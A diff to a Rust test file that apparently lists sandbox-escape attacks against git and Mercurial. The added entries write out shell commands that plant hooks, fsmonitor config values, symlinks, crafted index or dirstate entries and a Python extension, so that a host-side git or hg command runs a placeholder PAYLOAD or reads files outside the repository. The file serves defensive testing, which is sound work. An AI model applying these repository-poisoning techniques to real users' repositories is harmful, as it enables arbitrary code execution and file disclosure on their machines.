@@ -21,6 +21,22 @@ pub const BARE: &str = "mkdir -p objects refs && echo 'ref: refs/heads/main' >HE
 
 pub const GIT: &[Attack] = &[
     Attack {
+        name: "a hook where the configuration has hooks in the work tree",
+        victim: "git init -q -b main repo && cd repo && echo a >a && git add a && git commit -q -m a && mkdir -p tools/hooks && \
+                 git config core.hooksPath tools/hooks",
+        volume: "repo",
+        attack: "printf '#!/bin/sh\\nPAYLOAD\\n' >tools/hooks/post-commit; chmod +x tools/hooks/post-commit",
+        outside: ("repo", "git commit -q --allow-empty -m b"),
+    },
+    Attack {
+        name: "a file of the work tree that the configuration includes, in a volume that is a part of it",
+        victim: "git init -q -b main repo && cd repo && echo a >a && git add a && git commit -q -m a && mkdir part && \
+                 touch part/team && git config include.path ../part/team",
+        volume: "repo/part",
+        attack: "printf '[core]\\nfsmonitor = \"PAYLOAD\"\\n' >team",
+        outside: ("repo", "git status"),
+    },
+    Attack {
         name: "a bare repository at the top, and HEAD moved away",
         victim: REPOSITORY,
         volume: "repo",
@@ -181,6 +197,17 @@ pub const EMBED: &str = "git config --global --add safe.directory '*'; git init 
 
 /// What the index leads to: no name is known before the run, so these are found when it is over.
 pub const INDEX: &[Attack] = &[
+    Attack {
+        name: "a repository that names the .git of another by the name that it would get",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "git init -q z1; git -C z1 commit -q --allow-empty -m x; h=$(git -C z1 rev-parse HEAD); mkdir a1; \
+                 echo 'gitdir: ../z1/.git.disabled' >a1/.git; \
+                 git update-index --add --cacheinfo \"160000,$h,a1\" --add --cacheinfo \"160000,$h,z1\"; \
+                 printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"PAYLOAD\"\\n' >z1/.git/config; \
+                 [ \"$OUT\" = /nowhere ] || mv z1/.git z1/.git.disabled",
+        outside: ("repo", "git status"),
+    },
     Attack {
         name: "a repository that the program adds to the index",
         victim: REPOSITORY,
@@ -383,9 +410,105 @@ pub const LINKS: &[Attack] = &[
         attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; ln -s \"$p\" .git/FETCH_HEAD",
         outside: ("repo", "git fetch -q . HEAD"),
     },
+    Attack {
+        name: "a link in the place of the last message, to the configuration",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "rm -f .git/COMMIT_EDITMSG; ln -s config .git/COMMIT_EDITMSG; \
+                 printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"PAYLOAD\"\\n' >.git/MERGE_MSG",
+        outside: ("repo", "echo b >>a; GIT_EDITOR=true git commit -qa; git status"),
+    },
+    Attack {
+        name: "a link in the place of the last message, to a hook",
+        victim: "git init -q -b main repo && cd repo && echo a >a && git add a && git commit -q -m a && \
+                 printf '#!/bin/sh\\n' >.git/hooks/post-commit && chmod +x .git/hooks/post-commit",
+        volume: "repo",
+        attack: "rm -f .git/COMMIT_EDITMSG; ln -s hooks/post-commit .git/COMMIT_EDITMSG; \
+                 printf 'PAYLOAD\\n' >.git/MERGE_MSG",
+        outside: ("repo", "echo b >>a; GIT_EDITOR=true git commit -qa"),
+    },
+    Attack {
+        name: "an entry of the index that lies outside of the work tree",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; p=${p##*/}; blob=$(echo x | git hash-object -w --stdin); \
+                 git update-index --add --cacheinfo \"100644,$blob,xx/$p\"; sed -i \"s,xx/$p,../$p,\" .git/index",
+        outside: ("repo", "git restore ."),
+    },
+    Attack {
+        name: "an entry of the index that is a hook",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "blob=$(printf '#!/bin/sh\\nPAYLOAD\\n' | git hash-object -w --stdin); \
+                 git update-index --add --cacheinfo \"100755,$blob,xgit/hooks/post-checkout\"; \
+                 sed -i 's,xgit/hooks,.git/hooks,' .git/index",
+        outside: ("repo", "git restore .; git checkout -q -b other"),
+    },
+    Attack {
+        name: "a branch that is a reference to a file outside",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "echo 'ref: ../../out/new' >.git/refs/heads/main; : PAYLOAD",
+        outside: ("repo", "mkdir ../out; git commit -q --allow-empty -m b; test -e ../out/new && touch ../PAYLOAD-RAN"),
+    },
+    Attack {
+        name: "a branch with the name that a reference to a file outside would get",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "for ev in ev ev.disabled; do echo 'ref: ../../out/new' >.git/refs/heads/$ev; done; \
+                 echo 'ref: refs/heads/ev.disabled' >.git/HEAD; : PAYLOAD",
+        outside: ("repo", "mkdir ../out; git commit -q --allow-empty -m b; test -e ../out/new && touch ../PAYLOAD-RAN"),
+    },
+    Attack {
+        name: "a link to a directory outside in the place of a work tree",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "mkdir -p .git/worktrees; ln -s ../../../out .git/worktrees/ev; : PAYLOAD",
+        outside: (
+            "repo",
+            "mkdir ../out; echo k >../out/key; git worktree prune; git gc -q; test -e ../out/key || touch ../PAYLOAD-RAN",
+        ),
+    },
+    Attack {
+        name: "a place for the last commit that is a reference to a file outside",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "echo 'ref: ../../out/new' >.git/ORIG_HEAD; : PAYLOAD",
+        outside: ("repo", "mkdir ../out; git reset -q --hard HEAD; test -e ../out/new && touch ../PAYLOAD-RAN"),
+    },
+    Attack {
+        name: "a resolution to record of a file outside",
+        victim: REPOSITORY,
+        volume: "repo",
+        attack: "id=1111111111111111111111111111111111111111; mkdir -p .git/rr-cache/$id; \
+                 echo x >.git/rr-cache/$id/preimage; printf \"$id\\t../out/key\\0\" >.git/MERGE_RR; : PAYLOAD",
+        outside: (
+            "repo",
+            "mkdir ../out; echo SECRET >../out/key; echo b >>a; git commit -qam b; \
+             grep -qr SECRET .git/rr-cache && touch ../PAYLOAD-RAN",
+        ),
+    },
 ];
 
 pub const HG: &[Attack] = &[
+    Attack {
+        name: "an extension that the configuration has in the work tree",
+        victim: "hg init repo && cd repo && mkdir tools && touch tools/ext.py && hg commit -q -A -m a && \
+                 printf '[extensions]\\next = %s/tools/ext.py\\n' \"$PWD\" >.hg/hgrc",
+        volume: "repo",
+        attack: "printf 'import os\\nos.system(\"\"\"PAYLOAD\"\"\")\\n' >tools/ext.py",
+        outside: ("repo", "hg status"),
+    },
+    Attack {
+        name: "a dirstate with a file outside",
+        victim: COMMITTED,
+        volume: "repo",
+        attack: "printf 'n\\0\\0\\201\\244\\377\\377\\377\\377\\377\\377\\377\\377\\0\\0\\0\\012../out/key' >>.hg/dirstate",
+        outside: (
+            "repo",
+            "mkdir ../out; echo k >../out/key; hg revert --all; test -e ../out/key || touch ../PAYLOAD-RAN",
+        ),
+    },
     Attack {
         name: "a transaction to recover that restores configuration",
         victim: COMMITTED,
